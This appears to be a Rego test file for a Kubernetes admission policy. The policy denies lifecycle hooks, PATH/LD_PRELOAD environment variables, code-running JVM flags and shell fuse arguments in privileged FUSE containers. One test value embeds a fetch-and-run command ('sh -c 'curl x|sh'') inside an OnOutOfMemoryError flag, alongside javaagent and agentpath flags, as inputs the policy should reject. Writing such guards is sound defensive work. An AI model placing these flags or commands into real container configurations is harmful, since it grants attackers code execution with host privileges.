package sluice.validating_test

import rego.v1

import data.sluice.validating

# pv is a value the privileged-container rule judges as a whole.
pv(path, field) := {"path": path, "field": field, "container": "the privileged FUSE container", "value": "{}", "unchanged": false}

# pe is an element judged against the policy data list.
pe(path, field, list, value) := {
	"path": path, "field": field, "container": "the privileged FUSE container",
	"value": value, "list": list, "unchanged": false,
}

test_a_lifecycle_hook_in_a_privileged_container_is_denied if {
	d := denials("ThinRuntime", {"privileged": [pv("spec.fuse.lifecycle", "spec.fuse.lifecycle")]})
	some x in d
	x.rule == "privileged-container"
	startswith(x.message, "spec.fuse.lifecycle: reaches the privileged FUSE container, which runs with host privileges")
	contains(x.message, `validating.guards.privilegedFields for namespace "team-a" may list "spec.fuse.lifecycle"`)
}

test_the_platform_admits_a_listed_field if {
	d := validating.decision.deny with input as guard_input("ThinRuntime", {"privileged": [pv("spec.fuse.lifecycle", "spec.fuse.lifecycle")]})
		with data.sluice.config as team_a("privilegedFields", ["spec.fuse.lifecycle"])
	count(d) == 0
}

test_an_unchanged_value_is_not_judged_again if {
	v := object.union(pv("spec.fuse.lifecycle", "spec.fuse.lifecycle"), {"unchanged": true})
	count(denials("ThinRuntime", {"privileged": [v]})) == 0
}

test_path_and_ld_preload_are_denied_by_name if {
	d := denials("JuiceFSRuntime", {"privileged": [
		pe("spec.worker.env[0]", "spec.worker.env", "envNames", "PATH"),
		pe("spec.fuse.env[0]", "spec.fuse.env", "envNames", "LD_PRELOAD"),
		pe("spec.fuse.env.ALLUXIO_FUSE_JAVA_OPTS", "spec.fuse.env", "envNames", "ALLUXIO_FUSE_JAVA_OPTS"),
	]})
	count(d) == 3
	some x in d
	x.rule == "privileged-container"
	startswith(x.message, `spec.worker.env[0]: "PATH" is not allowed in the privileged FUSE container`)
	contains(x.message, "policy data validating.guards.envNames")
}

test_logging_and_downward_api_names_are_admitted if {
	count(denials("JuiceFSRuntime", {"privileged": [
		pe("spec.fuse.env[0]", "spec.fuse.env", "envNames", "JFS_LOG_LEVEL"),
		pe("spec.fuse.env[1]", "spec.fuse.env", "envNames", "NODE_NAME"),
		pe("spec.fuse.env[2]", "spec.fuse.env", "envNames", "HTTPS_PROXY"),
	]})) == 0
}

test_env_patterns_are_anchored if {
	count(denials("JuiceFSRuntime", {"privileged": [pe("spec.fuse.env[0]", "spec.fuse.env", "envNames", "XNODE_NAME")]})) == 1
}

test_jvm_flags_that_run_code_are_denied if {
	some flag in ["-XX:OnOutOfMemoryError=sh -c 'curl x|sh'", "-javaagent:/runtime-mnt/a.jar", "-agentpath:/x.so", "-Djava.library.path=/x", "-XX:OnError=sh"]
	d := denials("AlluxioRuntime", {"privileged": [pe("spec.fuse.jvmOptions[0]", "spec.fuse.jvmOptions", "jvmOptions", flag)]})
	some x in d
	x.rule == "privileged-container"
	startswith(x.message, sprintf("spec.fuse.jvmOptions[0]: %q is not allowed", [flag]))
}

test_memory_and_gc_flags_and_engine_properties_are_admitted if {
	flags := ["-Xmx4G", "-Xms512m", "-XX:MaxDirectMemorySize=16G", "-XX:+UseG1GC", "-Dalluxio.user.file.writetype.default=MUST_CACHE", "-XX:MaxRAMPercentage=75.0"]
	vs := [pe(sprintf("spec.jvmOptions[%d]", [i]), "spec.jvmOptions", "jvmOptions", f) | some i, f in flags]
	count(denials("AlluxioRuntime", {"privileged": vs})) == 0
}

test_fuse_args_are_mount_options if {
	count(denials("AlluxioRuntime", {"privileged": [
		pe("spec.fuse.args[0]", "spec.fuse.args", "fuseArgs", "fuse"),
		pe("spec.fuse.args[1]", "spec.fuse.args", "fuseArgs", "--fuse-opts=kernel_cache,ro,max_read=131072"),
		pe("spec.fuse.args[2]", "spec.fuse.args", "fuseArgs", "-okernel_cache"),
	]})) == 0
	d := denials("JindoRuntime", {"privileged": [pe("spec.fuse.args[0]", "spec.fuse.args", "fuseArgs", "bash")]})
	rules_of(d) == {"privileged-container"}
}

test_a_listed_field_admits_every_element if {
	d := validating.decision.deny with input as guard_input("AlluxioRuntime", {"privileged": [pe("spec.fuse.jvmOptions[0]", "spec.fuse.jvmOptions", "jvmOptions", "-XX:OnOutOfMemoryError=x")]})
		with data.sluice.config as star("privilegedFields", ["*"])
	count(d) == 0
}

test_non_runtimes_are_not_judged if {
	count(denials("Dataset", {"privileged": [pv("spec.fuse.lifecycle", "spec.fuse.lifecycle")]})) == 0
}
